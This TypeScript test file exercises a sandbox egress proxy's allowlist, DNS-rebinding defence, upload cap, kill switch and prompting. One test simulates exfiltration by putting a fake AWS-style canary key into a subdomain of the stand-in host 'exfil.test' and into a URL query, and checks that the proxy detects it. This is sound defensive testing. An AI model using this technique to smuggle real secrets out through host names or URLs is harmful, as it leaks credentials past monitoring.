/**
 * The egress proxy over its Unix socket, against servers this test starts on loopback. Names
 * resolve through an injected resolver, so no lookup or packet leaves this machine.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { parseAllowRule, type AllowRule } from '../../src/network/allow-rules.js';
import { startEgressProxy, type EgressProxyOptions } from '../../src/network/egress-proxy.js';

const dir = mkdtempSync(path.join(os.tmpdir(), 'saferun-proxy-test-'));
after(() => rmSync(dir, { recursive: true, force: true }));
let socketCount = 0;

/** A loopback "internet" server: answers GET with a body, POST with the byte count it received. */
async function startServer(): Promise<{ port: number; received: () => number; close: () => Promise<void> }> {
  let received = 0;
  const server = http.createServer((req, res) => {
    req.on('data', (chunk: Buffer) => (received += chunk.length));
    req.on('end', () => res.end(req.method === 'POST' ? `got ${received}` : `hello from ${req.headers.host}`));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    received: () => received,
    close: () => new Promise((resolve) => (server.closeAllConnections(), server.close(() => resolve()))),
  };
}

function rules(...texts: string[]): AllowRule[] {
  return texts.map((t) => {
    const parsed = parseAllowRule(t);
    if (!parsed.ok) throw new Error(parsed.problem);
    return parsed.rule;
  });
}

const names: Record<string, string[]> = { 'allowed.test': ['127.0.0.1'], 'other.test': ['127.0.0.1'], 'private.test': ['127.0.0.1'] };

async function proxy(overrides: Partial<EgressProxyOptions>) {
  return startEgressProxy({
    socketPath: path.join(dir, `p${socketCount++}.sock`),
    allow: [],
    maxUploadBytes: 1024 * 1024,
    resolve: async (host) => names[host] ?? [],
    ownAddresses: new Set(),
    ...overrides,
  });
}

/** A plain-HTTP request through the proxy (absolute-form URL). */
function forwardGet(socketPath: string, url: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ socketPath, path: url, headers: { Host: new URL(url).host, ...headers } }, (res) => {
      let body = '';
      res.on('data', (c: Buffer) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end();
  });
}

/** Opens a CONNECT tunnel; resolves with the status and, when 200, the tunnel socket. */
function connect(socketPath: string, authority: string): Promise<{ status: number; socket?: net.Socket; body?: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ socketPath, method: 'CONNECT', path: authority });
    req.on('connect', (res, socket) => {
      if (res.statusCode === 200) resolve({ status: 200, socket });
      else {
        socket.destroy();
        resolve({ status: res.statusCode ?? 0 });
      }
    });
    req.on('response', (res) => {
      let body = '';
      res.on('data', (c: Buffer) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** One HTTP request over an open tunnel; resolves with the whole response text. */
function overTunnel(socket: net.Socket, request: string | Buffer): Promise<string> {
  return new Promise((resolve) => {
    let text = '';
    socket.on('data', (c: Buffer) => (text += c));
    socket.on('close', () => resolve(text));
    socket.on('error', () => undefined);
    socket.end(request);
  });
}

test('an allowed host answers through HTTP forward and CONNECT, and each connection is logged with its bytes', async () => {
  const server = await startServer();
  const seen: string[] = [];
  const p = await proxy({ allow: rules(`allowed.test:${server.port}`, `127.0.0.1:${server.port}`), onConnection: (r) => seen.push(`${r.host}:${r.allowed}`) });
  try {
    const forwarded = await forwardGet(p.socketPath, `http://allowed.test:${server.port}/x`);
    assert.equal(forwarded.status, 200);
    assert.equal(forwarded.body, `hello from allowed.test:${server.port}`);
    const fronted = await forwardGet(p.socketPath, `http://allowed.test:${server.port}/x`, { Host: 'other.test' });
    assert.equal(fronted.body, `hello from allowed.test:${server.port}`, 'the Host header is the URL\'s, not the client\'s');
    const tunnel = await connect(p.socketPath, `allowed.test:${server.port}`);
    assert.equal(tunnel.status, 200);
    const reply = await overTunnel(tunnel.socket!, `GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n`);
    assert.match(reply, /hello from allowed\.test/);
    await new Promise((r) => setTimeout(r, 50));
    const log = p.connections();
    assert.equal(log.length, 3);
    for (const record of log) {
      assert.equal(record.allowed, true);
      assert.equal(record.reason, 'allowlist');
      assert.equal(record.address, '127.0.0.1');
      assert.ok(record.bytesUp > 0 && record.bytesDown > 0, JSON.stringify(record));
    }
    assert.deepEqual(seen, ['allowed.test:true', 'allowed.test:true', 'allowed.test:true']);
    assert.deepEqual(p.denied(), []);
  } finally {
    await p.close();
    await server.close();
  }
});

test('an unlisted host is refused and logged; a raw IP is refused unless listed', async () => {
  const server = await startServer();
  const p = await proxy({ allow: rules(`allowed.test:${server.port}`, `127.0.0.1:${server.port}`) });
  try {
    const refused = await forwardGet(p.socketPath, `http://other.test:${server.port}/`);
    assert.equal(refused.status, 403);
    assert.match(refused.body, /not on the allowlist/);
    assert.equal((await connect(p.socketPath, `other.test:${server.port}`)).status, 403);
    const raw = await connect(p.socketPath, `127.0.0.2:${server.port}`);
    assert.equal(raw.status, 403);
    const listedIp = await connect(p.socketPath, `127.0.0.1:${server.port}`);
    assert.equal(listedIp.status, 200, 'an IP that is listed exactly may be reached');
    listedIp.socket!.destroy();
    const reasons = p.connections().map((r) => `${r.host} ${r.allowed} ${r.reason}`);
    assert.deepEqual(reasons, ['other.test false not-listed', 'other.test false not-listed', '127.0.0.2 false raw-ip', '127.0.0.1 true allowlist']);
    assert.deepEqual(p.denied(), [`other.test:${server.port}`, `127.0.0.2:${server.port}`]);
  } finally {
    await p.close();
    await server.close();
  }
});

test('a listed name that resolves to a private or loopback address is refused unless that exact address is allowed', async () => {
  const server = await startServer();
  const nameOnly = await proxy({ allow: rules(`private.test:${server.port}`) });
  const exact = await proxy({ allow: rules(`private.test:${server.port}`, `127.0.0.1:${server.port}`) });
  try {
    const refused = await forwardGet(nameOnly.socketPath, `http://private.test:${server.port}/`);
    assert.equal(refused.status, 403);
    assert.match(refused.body, /loopback/);
    assert.deepEqual(
      nameOnly.connections().map((r) => [r.address, r.allowed, r.reason]),
      [['127.0.0.1', false, 'loopback-address']],
    );
    assert.equal((await forwardGet(exact.socketPath, `http://private.test:${server.port}/`)).status, 200);
  } finally {
    await nameOnly.close();
    await exact.close();
    await server.close();
  }
});

test('the address connected to is the one checked: a resolver that changes its answer (DNS rebinding) changes nothing', async () => {
  const server = await startServer();
  let calls = 0;
  // The first answer is the allowed address; any later one another loopback address that is not allowed.
  const p = await proxy({
    allow: rules(`rebind.test:${server.port}`, `127.0.0.1:${server.port}`),
    resolve: async () => (calls++ === 0 ? ['127.0.0.1'] : ['127.0.0.3']),
  });
  try {
    const tunnel = await connect(p.socketPath, `rebind.test:${server.port}`);
    assert.equal(tunnel.status, 200);
    tunnel.socket!.destroy();
    assert.equal(calls, 1, 'one lookup per connection; the connect uses the checked address, not the name');
    assert.equal(p.connections()[0]!.address, '127.0.0.1');
    const second = await connect(p.socketPath, `rebind.test:${server.port}`);
    assert.equal(second.status, 403, 'the next lookup gives an address that is not allowed');
    assert.equal(p.connections()[1]!.reason, 'loopback-address');
  } finally {
    await p.close();
    await server.close();
  }
});

test('the upload cap closes the tunnel, cuts the network and refuses what follows', async () => {
  const server = await startServer();
  const cuts: string[] = [];
  const p = await proxy({ allow: rules(`allowed.test:${server.port}`, `127.0.0.1:${server.port}`), maxUploadBytes: 4000, onCut: (c) => cuts.push(c.reason) });
  try {
    const tunnel = await connect(p.socketPath, `allowed.test:${server.port}`);
    const body = Buffer.alloc(20_000, 120);
    const request = Buffer.concat([Buffer.from(`POST / HTTP/1.1\r\nHost: x\r\nContent-Length: ${body.length}\r\n\r\n`), body]);
    const reply = await overTunnel(tunnel.socket!, request);
    assert.doesNotMatch(reply, /got 20000/);
    assert.ok(server.received() <= 4000, `the server got ${server.received()} bytes`);
    assert.deepEqual(cuts, ['upload-cap']);
    assert.equal(p.cutInfo()?.reason, 'upload-cap');
    const after = await connect(p.socketPath, `allowed.test:${server.port}`).catch(() => ({ status: 0 }));
    assert.notEqual(after.status, 200, 'nothing passes after a cut');
  } finally {
    await p.close();
    await server.close();
  }
});

test('cut() closes open tunnels at once and refuses new connections', async () => {
  const server = await startServer();
  const p = await proxy({ allow: rules(`allowed.test:${server.port}`, `127.0.0.1:${server.port}`) });
  try {
    const tunnel = await connect(p.socketPath, `allowed.test:${server.port}`);
    const closed = new Promise((resolve) => tunnel.socket!.once('close', resolve));
    tunnel.socket!.on('error', () => undefined);
    p.cut('critical alert');
    await closed;
    const again = await connect(p.socketPath, `allowed.test:${server.port}`).catch(() => ({ status: 0 }));
    assert.notEqual(again.status, 200);
    assert.equal(p.cutInfo()?.reason, 'critical alert');
  } finally {
    await p.close();
    await server.close();
  }
});

test('the prompt is asked once per host while the connections wait; yes allows for the run, no denies', async () => {
  const server = await startServer();
  const asked: string[] = [];
  let answer = true;
  const p = await proxy({
    allow: rules(`127.0.0.1:${server.port}`),
    ask: async ({ host, port }) => {
      asked.push(`${host}:${port}`);
      await new Promise((r) => setTimeout(r, 100));
      return answer;
    },
  });
  try {
    const both = await Promise.all([forwardGet(p.socketPath, `http://allowed.test:${server.port}/`), forwardGet(p.socketPath, `http://allowed.test:${server.port}/`)]);
    assert.deepEqual(both.map((r) => r.status), [200, 200]);
    assert.deepEqual(asked, [`allowed.test:${server.port}`]);
    answer = false;
    assert.equal((await forwardGet(p.socketPath, `http://other.test:${server.port}/`)).status, 403);
    assert.equal((await forwardGet(p.socketPath, `http://other.test:${server.port}/`)).status, 403);
    assert.deepEqual(asked, [`allowed.test:${server.port}`, `other.test:${server.port}`], 'a denied host is not asked again');
    assert.deepEqual(p.connections().map((r) => r.reason), ['prompt', 'prompt', 'denied-at-prompt', 'denied-at-prompt']);
  } finally {
    await p.close();
    await server.close();
  }
});

test('a canary in a CONNECT host name or in plain-HTTP bytes cuts the network', async () => {
  const server = await startServer();
  const canary = 'AKIAZZCANARY0001';
  const byName = await proxy({ allow: rules('*.exfil.test'), canaries: [canary] });
  const byBody = await proxy({ allow: rules(`allowed.test:${server.port}`, `127.0.0.1:${server.port}`), canaries: [canary] });
  try {
    const tunnel = await connect(byName.socketPath, `${canary.toLowerCase()}.exfil.test:443`).catch(() => ({ status: 0 }));
    assert.notEqual(tunnel.status, 200);
    assert.equal(byName.cutInfo()?.reason, 'canary');
    await forwardGet(byBody.socketPath, `http://allowed.test:${server.port}/?k=${canary}`).catch(() => undefined);
    assert.equal(byBody.cutInfo()?.reason, 'canary');
    assert.equal(server.received(), 0);
  } finally {
    await byName.close();
    await byBody.close();
    await server.close();
  }
});

test('close() removes the socket; malformed requests are refused', async () => {
  const p = await proxy({});
  assert.equal((await connect(p.socketPath, 'no-port-here')).status, 400);
  assert.equal((await forwardGet(p.socketPath, 'http://allowed.test:1/').catch(() => ({ status: 0 }))).status, 403);
  await p.close();
  assert.equal(existsSync(p.socketPath), false);
});
